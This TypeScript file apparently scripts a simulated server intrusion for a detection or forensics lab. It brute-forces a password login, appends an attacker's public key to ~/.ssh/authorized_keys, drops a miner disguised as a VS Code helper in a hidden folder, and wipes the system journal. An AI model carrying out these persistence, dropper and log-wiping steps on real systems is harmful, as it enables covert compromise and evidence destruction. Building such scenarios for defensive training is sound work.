// Two logins: the first by password is the way in, the second by his own key brings the miner.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.account('zhangwei', 'Sunrise-2024!')
  dress.key('his', 'kali@kali')
  dress.logins({ days: 20, guesses: 80, friends: [{ user: 'zhangwei', address: '198.51.100.41', hours: [9, 14] }] })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/home/zhangwei/.vscode/.s/code-helper' })
  stage.mark('occurrence')
  const leave = `mkdir -p -m 700 ~/.ssh; echo '${stage.publicKey('his')}' >>~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys`
  await stage.ssh('203.0.113.99', 'zhangwei', { password: 'Sunrise-2024!' }, leave)
  await stage.ssh('192.0.2.201', 'zhangwei', { key: 'his' }, line)
  await wipe(stage, ['journal'])
}
